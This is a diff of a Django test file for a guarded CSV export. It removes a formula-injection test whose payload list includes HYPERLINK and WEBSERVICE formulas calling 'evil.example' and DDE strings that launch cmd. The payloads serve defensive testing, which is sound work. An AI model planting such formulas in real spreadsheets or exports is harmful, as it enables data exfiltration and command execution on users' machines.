@@ -2,7 +2,6 @@
 
 import csv
 import io
-import random
 
 import pytest
 from django.db import connection
@@ -11,7 +10,7 @@ from django.test.utils import CaptureQueriesContext
 from hypothesis import given
 from hypothesis import strategies as st
 
-from partners.models import Name, Partner
+from partners.models import Partner
 from perpusnas.exports import Guarded, unguarded
 from perpusnas.models import Source
 from tests.factories import (
@@ -25,6 +24,7 @@ from tests.factories import (
     country,
     home,
 )
+from tests.payloads import SIGNS
 
 pytestmark = pytest.mark.django_db
 BOM = b"\xef\xbb\xbf"
@@ -219,72 +219,6 @@ def test_bytes_are_the_same_on_every_database(desk, dialect, delimiter):
 def written_rows(delimiter: str, sent: bytes) -> list[list[str]]:
     text = io.StringIO(sent.decode("utf-8-sig"), newline="")
     return list(csv.reader(text, delimiter=delimiter))
-
-
-SIGNS = [*DANGEROUS, "'", '"', ";", ",", " ", "\n", "\\", "1", "a", "é", "ម", "Ж", "%"]
-FORMULAS = [
-    "=1+1",
-    '=HYPERLINK("http://evil.example/?x="&A1;"click")',
-    '=WEBSERVICE("http://evil.example")',
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "+1-1",
-    "-2+3+cmd|' /C notepad'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "＋1",
-    "－1",
-    "＠SUM(1)",
-    '="="',
-    "'=1+1",
-    "'''=1+1",
-    "%0A=1",
-]
-
-
-def payloads(number: int) -> list[str]:
-    """The known formulas, and texts by chance of the signs that matter."""
-    chance = random.Random(9)
-    made = list(FORMULAS)
-    while len(made) < number:
-        made.append("".join(chance.choices(SIGNS, k=chance.randint(1, 12))))
-    return made
-
-
-def test_no_cell_begins_like_a_formula_and_each_gives_back_its_text(desk):
-    """Two thousand payloads, through every column of free text and through a row's."""
-    user = UserFactory(role="editor")
-    stamps = {"created_by": user, "changed_by": user, "changed": user.date_joined}
-    sent = payloads(2000)
-    made = Partner.objects.bulk_create(
-        Partner(
-            name=text,
-            label_id=text,
-            label_en=text,
-            acronym=text,
-            about=text,
-            remarks=text,
-            seat_city=text,
-            mail=text,
-            phone=text,
-            kind="other",
-            **stamps,
-        )
-        for text in sent
-    )
-    Name.objects.bulk_create(
-        Name(partner=partner, text=partner.name, kind="alias") for partner in made
-    )
-    by_key = {str(partner.pk): partner.name for partner in made}
-    filled = ["Name", "Official name", "Acronym", "Other names", "City of the seat"]
-    filled += ["About", "Remarks", "E-mail", "Phone"]
-    headings, *rows = table(desk, "/partners/export.csv?kind=other")
-    assert len(rows) == len(sent)
-    for row in rows:
-        text = by_key[row[-1]]
-        assert not any(cell[:1] in tuple(DANGEROUS) for cell in row if cell)
-        told = {row[headings.index(heading)] for heading in filled}
-        assert {unguarded(cell) for cell in told} == {text}
 
 
 @given(st.text(st.sampled_from(SIGNS), max_size=8))
